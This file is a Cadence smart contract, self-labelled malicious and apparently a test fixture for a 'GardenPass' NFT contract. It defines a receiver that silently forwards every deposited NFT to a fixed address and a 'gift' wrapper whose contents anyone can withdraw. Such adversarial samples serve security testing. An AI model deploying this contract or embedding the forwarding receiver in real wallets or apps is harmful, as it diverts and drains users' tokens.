import "GardenPass"
import "NonFungibleToken"

/// MALICIOUS: passes on to another account whatever NFT is deposited, and carries an honest collection inside a gift.
access(all) contract MaliciousCollection {

    access(all) resource Forwarder: NonFungibleToken.Receiver {
        access(self) let to: Address

        init(to: Address) {
            self.to = to
        }

        access(all) fun deposit(token: @{NonFungibleToken.NFT}) {
            getAccount(self.to).capabilities.borrow<&{NonFungibleToken.Receiver}>(GardenPass.collectionPublicPath)!
                .deposit(token: <- token)
        }

        access(all) view fun getSupportedNFTTypes(): {Type: Bool} {
            return {}
        }

        access(all) view fun isSupportedNFTType(type: Type): Bool {
            return true
        }
    }

    /// Lies in the account of whoever takes it; anybody takes out what is inside.
    access(all) resource Gift {
        access(self) let collection: @GardenPass.Collection
        access(self) let forwarder: @Forwarder

        init(to: Address) {
            self.collection <- GardenPass.createEmptyCollection(nftType: Type<@GardenPass.NFT>()) as! @GardenPass.Collection
            self.forwarder <- create Forwarder(to: to)
        }

        access(all) view fun borrowCollection(): &GardenPass.Collection {
            return &self.collection
        }

        access(all) view fun borrowForwarder(): &Forwarder {
            return &self.forwarder
        }

        access(all) fun take(_ id: UInt64): @{NonFungibleToken.NFT} {
            return <- self.collection.withdraw(withdrawID: id)
        }
    }

    access(all) fun wrap(to: Address): @Gift {
        return <- create Gift(to: to)
    }
}
